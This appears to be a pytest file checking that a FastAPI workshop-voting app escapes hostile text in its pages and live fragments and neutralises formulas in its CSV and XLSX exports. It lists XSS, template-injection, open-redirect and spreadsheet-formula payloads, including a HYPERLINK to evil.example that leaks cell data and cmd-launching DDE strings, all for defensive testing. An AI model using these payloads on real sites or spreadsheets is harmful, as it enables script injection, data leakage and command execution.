"""Hostile text is shown as text everywhere: escaped in every page and every live fragment,
never evaluated as a template, and inert in CSV and XLSX (no spreadsheet formulas).

Each hostile string is used at once as the workshop's title, a strategy's name, an agency,
a participant's name and agency, and a project's title, description and agency.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from markupsafe import escape

from app.deps import cookie_name
from app.services.exports.tables import neutralise_cell
from app.text import clean_line, clean_title
from tests.routes.helpers import API, bearer

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "{{7*7}} {% raw %}${7*7}",
    '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+2",
    "\r=1+2",
    "\u202eevil.exe\u202c",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# For pages, the formula-like strings (harmless in HTML) travel together in one text.
PAGE_CASES = [*HOSTILE[:5], '=HYPERLINK("http://evil.example","x") @SUM(1) +1 -1 \t=1+2 \r=1+2 \u202eevil\u202c']


def scene(client: TestClient, text: str) -> dict[str, Any]:
    """A workshop made of this text, with one participant who proposed one project and voted on it."""
    body = {"title": text, "description": text, "agencies": [text],
            "framework": {"strategies": [{"code": "S1", "name": text}], "reform_areas": [{"code": "R1", "name": text}]},
            "dots_per_participant": 5, "max_dots_per_project": 3}
    created = client.post(f"{API}/workshops", json=body)
    assert created.status_code == 201, created.text
    keys = created.json()
    code, facilitator = keys["code"], bearer(keys["facilitator_key"])
    url = f"{API}/workshops/{code}"
    info = client.get(url).json()
    assert client.put(f"{url}/phase", json={"phase": "propose"}, headers=facilitator).status_code == 200
    joined = client.post(f"{url}/participants", json={"name": text, "agency": text}).json()
    person = bearer(joined["participant_token"])
    project = client.post(f"{url}/projects", headers=person, json={
        "title": text, "description": f"{text}\n{text}", "agency": text,
        "strategy_ids": [info["strategies"][0]["id"]], "reform_area_ids": [info["reform_areas"][0]["id"]]}).json()
    return {"code": code, "url": url, "keys": keys, "facilitator": facilitator, "person": person,
            "token": joined["participant_token"], "project": project["id"]}


def assert_escaped(body: str, text: str, where: str, shown: bool = True) -> None:
    """The text is on the page, but only in its escaped form; no raw markup survives."""
    kept = str(clean_line(text))
    # Titles keep their line breaks (a carriage return becomes one); names fold them to spaces.
    as_title = str(clean_title(text))
    if shown:
        assert str(escape(kept)) in body or str(escape(as_title)) in body, f"{where}: {kept!r} is not shown"
    for raw in ("<script>alert", "<img src=x", "<svg onload", "</textarea><script"):
        assert raw not in body, f"{where}: raw {raw!r} in the page"
    if "<" in kept or '"' in kept or "'" in kept:
        assert kept not in body, f"{where}: {kept!r} unescaped"
    assert "\u202e" not in body and "\u202c" not in body, f"{where}: a bidi override reached the page"
    if "{{7*7}}" in kept and shown:
        assert "{{7*7}}" in body and "${7*7}" in body, f"{where}: template syntax was evaluated"


def pages(client: TestClient, s: dict[str, Any]) -> dict[str, str]:
    """Every page and fragment that shows the workshop's text, as each role sees it."""
    code, seen = s["code"], {}
    client.cookies.clear()
    seen["phone join page"] = client.get(f"/w/{code}").text
    client.cookies.set(cookie_name("participant", code), s["token"])
    seen["phone page"] = client.get(f"/w/{code}").text
    seen["phone main"] = client.get(f"/w/{code}/me").text
    client.cookies.clear()
    client.cookies.set(cookie_name("facilitator", code), s["keys"]["facilitator_key"])
    seen["facilitator page"] = client.get(f"/w/{code}/facilitate").text
    seen["project editor"] = client.get(f"/w/{code}/facilitate/projects/{s['project']}").text
    client.cookies.clear()
    client.cookies.set(cookie_name("screen", code), s["keys"]["screen_key"])
    seen["screen page"] = client.get(f"/w/{code}/screen").text
    client.cookies.clear()
    for name, response in seen.items():
        assert response, name
    return seen


def live_fragments(client: TestClient, s: dict[str, Any]) -> dict[str, str]:
    code, fragments = s["code"], {}
    for view, key in (("screen", s["keys"]["screen_key"]), ("phone", s["token"]),
                      ("facilitator", s["keys"]["facilitator_key"])):
        with client.websocket_connect(f"/ws/workshops/{code}?view={view}&key={key}") as websocket:
            fragments[f"{view} fragment"] = websocket.receive_text()
    return fragments


@pytest.mark.parametrize("text", PAGE_CASES, ids=[repr(h)[:24] for h in PAGE_CASES])
def test_hostile_text_is_escaped_on_every_page_and_fragment(client: TestClient, text: str) -> None:
    s = scene(client, text)
    for phase in ("propose", "vote", "results"):
        if phase != "propose":
            assert client.put(f"{s['url']}/phase", json={"phase": phase}, headers=s["facilitator"]).status_code == 200
        if phase == "vote":
            assert client.put(f"{s['url']}/votes/{s['project']}", json={"dots": 2},
                              headers=s["person"]).status_code == 200
        for where, body in {**pages(client, s), **live_fragments(client, s)}.items():
            # While voting, the phones' shared fragment carries only tallies (each phone draws its
            # own ballot); it must still carry nothing raw.
            shown = not (where == "phone fragment" and phase != "propose")
            assert_escaped(body, text, f"{where} ({phase})", shown=shown)
    client.cookies.set(cookie_name("facilitator", s["code"]), s["keys"]["facilitator_key"])
    report = client.get(f"/w/{s['code']}/facilitate/report")
    if report.status_code == 200:
        assert_escaped(report.text, text, "printable report")


@pytest.mark.parametrize("text", HOSTILE[:4], ids=[repr(h)[:24] for h in HOSTILE[:4]])
def test_hostile_text_sent_back_in_a_form_with_errors_is_escaped(client: TestClient, text: str) -> None:
    """A refused form is shown again with what was typed: in value attributes and textareas."""
    too_long = text + "ก" * 500  # over the 500-character title limit
    answer = client.post("/new", data={"title": too_long, "description": text, "agencies": text})
    assert answer.status_code == 422
    assert_escaped(answer.text, text, "the new-workshop form")
    s = scene(client, "ปกติ")
    client.cookies.clear()
    answer = client.post(f"/w/{s['code']}/join", data={"name": too_long, "agency": text})
    assert answer.status_code == 422
    assert_escaped(answer.text, text, "the join form")
    client.cookies.set(cookie_name("participant", s["code"]), s["token"])
    answer = client.post(f"/w/{s['code']}/proposals", data={"title": too_long, "description": text})
    assert answer.status_code == 422
    assert_escaped(answer.text, text, "the proposal form")


@pytest.mark.parametrize("text", HOSTILE[:3], ids=[repr(h)[:24] for h in HOSTILE[:3]])
def test_hostile_text_in_the_address_is_escaped_on_error_pages(client: TestClient, text: str) -> None:
    answer = client.get(f"/w/{text.replace('/', '%2F')}")
    assert answer.status_code == 404
    for raw in ("<SCRIPT>", "<IMG SRC", "<SVG ONLOAD", "<script>", "<img", "<svg"):
        assert raw not in answer.text
    answer = client.get("/lang/en", params={"next": f"//evil.example/{text}"}, follow_redirects=False)
    assert answer.headers["location"] == "/"


def spreadsheet_cells(client: TestClient, s: dict[str, Any]) -> list[tuple[str, Any, str]]:
    """(file, value, openpyxl data type) of every cell of the CSV and XLSX exports."""
    cells: list[tuple[str, Any, str]] = []
    answer = client.get(f"{s['url']}/export?format=csv", headers=s["facilitator"])
    assert answer.status_code == 200
    for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))):
        cells += [("csv", value, "s") for value in row]
    answer = client.get(f"{s['url']}/export?format=xlsx", headers=s["facilitator"])
    assert answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    for sheet in book.worksheets:
        cells += [(f"xlsx:{sheet.title}", cell.value, cell.data_type)
                  for row in sheet.iter_rows() for cell in row if cell.value is not None]
    return cells


@pytest.mark.parametrize("text", HOSTILE, ids=[repr(h)[:24] for h in HOSTILE])
def test_no_export_cell_is_a_formula(client: TestClient, text: str) -> None:
    s = scene(client, text)
    set_phase_to = {"phase": "results"}
    assert client.put(f"{s['url']}/phase", json={"phase": "vote"}, headers=s["facilitator"]).status_code == 200
    client.put(f"{s['url']}/votes/{s['project']}", json={"dots": 2}, headers=s["person"])
    assert client.put(f"{s['url']}/phase", json=set_phase_to, headers=s["facilitator"]).status_code == 200
    cells = spreadsheet_cells(client, s)
    kept = str(clean_line(text))
    for where, value, data_type in cells:
        assert data_type != "f", f"{where}: {value!r} is a formula"
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), f"{where}: {value!r} would run as a formula"
    shown = {value for _where, value, _type in cells if isinstance(value, str)}
    expected = "'" + kept if kept.startswith(FORMULA_STARTS) else kept
    assert expected in shown, f"{expected!r} is in neither export"
    assert {where.split(":")[0] for where, value, _ in cells if value == expected} == {"csv", "xlsx"}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1"])
def test_neutralising_a_cell_leaves_nothing_a_spreadsheet_would_run(value: str) -> None:
    cell = neutralise_cell(value)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.lstrip("'") == value.lstrip("'")


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert neutralise_cell(-1) == -1
    assert neutralise_cell(3.5) == 3.5
    assert neutralise_cell("น้ำ = ชีวิต") == "น้ำ = ชีวิต"
